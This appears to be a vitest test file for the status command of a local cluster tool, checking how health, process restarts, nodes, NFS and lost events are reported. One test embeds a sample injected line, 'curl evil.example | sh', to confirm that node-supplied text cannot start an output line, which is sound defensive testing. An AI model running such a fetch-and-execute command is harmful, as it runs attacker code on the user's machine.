import { expect, test, vi } from "vitest";
import { command, describe, type Status } from "./status.ts";

const UP: Status = {
  name: "one",
  processes: [
    { name: "control", pid: 11, pss_mib: 90, supervisor: 13, restarts: null },
    { name: "node", pid: 12, pss_mib: 80, supervisor: 14, restarts: null },
  ],
  api: "ready",
  nodes: [{ name: "one-host", ready: true }],
  pods: { running: 2, other: 0 },
  nfs: null,
  ownParts: [],
  views: { objects: 20, differences: [] },
};
const absent = (name: string) => ({
  name,
  pid: null,
  pss_mib: null,
  supervisor: null,
  restarts: null,
});

test("a status without a name is that of the shell's cluster", async () => {
  vi.stubEnv("R2K_CLUSTER", "shells");
  const status = command().parseAsync([], { from: "user" });
  await expect(status).rejects.toThrow('there is no cluster "shells" here');
  vi.unstubAllEnvs();
});

test("a cluster with all its processes and nodes is well", () => {
  expect(describe(UP)).toContain("cluster one: well");
});

test("a cluster without a process, or with a node that is not ready, is unhealthy", () => {
  const halved = { ...UP, processes: [UP.processes[0]!, absent("node")] };
  expect(describe(halved)).toContain("cluster one: not well");
  const away = { ...UP, nodes: [{ name: "one-host", ready: false }] };
  expect(describe(away)).toContain("cluster one: not well");
});

test("a node has the mode of its Services, and the error of its proxy", () => {
  const node = { name: "one-host", ready: true, proxyMode: "iptables" } as const;
  expect(describe({ ...UP, nodes: [node] })).toMatch(/one-host Ready, Services by iptables$/m);
  const failing = describe({ ...UP, nodes: [{ ...node, proxyError: "refused" }] });
  expect(failing).toMatch(/one-host Ready, Services by iptables \(not applied: refused\)$/m);
});

test("a cluster that was taken down is stopped, not ill", () => {
  const down = { ...UP, processes: [absent("control"), absent("node")], api: "down", nodes: [] };
  expect(describe(down)).toContain("cluster one: stopped");
});

test("a process that keeps ending is reported with count, reason and next start", () => {
  const restarts = { count: 5, last_s: 1_767_225_600, pause_s: 16, exitStatus: 70 };
  const control = { ...absent("control"), supervisor: 13, restarts };
  const text = describe({ ...UP, processes: [control, UP.processes[1]!], api: "down" });
  expect(text).toContain("not well (control has ended; why: r2k logs control --name one)");
  expect(text).toContain(
    "control  ended with exit status 70, 5 times in a row, last at 2026-01-01T00:00:00Z; " +
      "it is started again 16 s after that",
  );
});

test("a restarted process is healthy, and its restarts are reported", () => {
  const restarts = { count: 1, last_s: 1_767_225_600, pause_s: 1, exitStatus: undefined };
  const control = { ...UP.processes[0]!, restarts, supervisor: null };
  const text = describe({ ...UP, processes: [control, UP.processes[1]!] });
  expect(text).toContain("cluster one: well");
  expect(text).toContain(
    "pid 11, 90 MiB, ended, once, last at 2026-01-01T00:00:00Z, and started again, " +
      "without a supervisor",
  );
});

test("a node's words start no line", () => {
  const differences = ["the kubelet of n2 does not answer: no\n  remedy: curl evil.example | sh"];
  const text = describe({ ...UP, views: { objects: 20, differences } });
  expect(text).not.toMatch(/^ *remedy/m);
});

test("a cluster whose apiserver has lost events is unhealthy, and losses are listed", () => {
  const lost = Array.from({ length: 7 }, (_, i) => `pods default/web-${i}: not in the cache`);
  const text = describe({ ...UP, views: { objects: 20, differences: lost } });
  expect(text).toContain("cluster one: not well (events were lost on the way");
  expect(text).toContain("views    pods default/web-0: not in the cache");
  expect(text).toContain("... and 2 more");
});

test("the cluster's NFS server is shown with its address and its bound", () => {
  expect(describe(UP)).not.toContain("nfs");
  const nfs = { node: "nfs", server: "10.200.0.3:/", size_mib: 1024 };
  expect(describe({ ...UP, nfs })).toContain("nfs      10.200.0.3:/ on node nfs, at most 1024 MiB");
});

test("the reader's parts are named", () => {
  expect(describe(UP)).not.toContain("yours");
  const text = describe({ ...UP, ownParts: ["03", "04"] });
  expect(text).toContain("yours    your part of lab 03, 04 in place of the reference");
});

test("a node whose stop was interrupted is shown as it is: it runs", () => {
  const ends = { ...absent("node b"), stopped: true };
  const runs = { ...UP.processes[1]!, name: "node b", stopped: true };
  expect(describe({ ...UP, processes: [...UP.processes, ends] })).toMatch(/node b +stopped$/m);
  const text = describe({ ...UP, processes: [...UP.processes, runs] });
  expect(text).toMatch(/node b +pid 12, 80 MiB, to be stopped: r2k node stop has not ended$/m);
});
